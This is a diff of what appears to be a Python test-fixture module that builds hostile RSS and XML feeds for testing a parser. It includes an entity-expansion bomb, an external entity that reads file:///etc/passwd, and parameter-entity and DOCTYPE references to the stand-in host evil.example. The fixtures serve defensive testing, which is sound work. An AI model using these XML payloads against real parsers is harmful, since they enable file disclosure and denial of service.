@@ -1,42 +1,40 @@
 """Feeds and outlines that are damaged, unfold without end, or hide something."""
 
-from __future__ import annotations
-
 from tests.hostile.corpus.file import File
 
 ITEM = b"<item><title>Storm closes airport</title></item>"
 ENTITIES = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, 10))
 
 
-def rss(inside: bytes, before: bytes = b"") -> bytes:
+def rss(inside, before=b""):
     return before + b'<rss version="2.0"><channel><title>Desk</title>' + inside + b"</channel></rss>"
 
 
-def titled(title: bytes, before: bytes = b"") -> bytes:
+def titled(title, before=b""):
     return rss(b"<item><title>" + title + b"</title></item>", before)
 
 
-def bomb() -> bytes:
+def bomb():
     declared = f'<!DOCTYPE rss [<!ENTITY e0 "laugh">{ENTITIES}]>'.encode()
     return titled(b"&e9;", declared)
 
 
-def outside() -> bytes:
+def outside():
     declared = b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     return titled(b"&x;", declared)
 
 
-def parameters() -> bytes:
+def parameters():
     declared = b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'
     return rss(ITEM, declared)
 
 
-def named(text: str) -> bytes:
+def named(text):
     return f'<?xml version="1.0" encoding="{text}"?>'.encode()
 
 
 NETSCAPE = b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://evil.example/rss.dtd">'
-FILES: dict[str, File] = {
+FILES = {
     "entities that unfold to gigabytes": File("a.xml", bomb, "entities"),
     "entities that unfold, called CSV": File("a.csv", bomb, "entities"),
     "an entity of a file": File("a.rss", outside, "entities"),
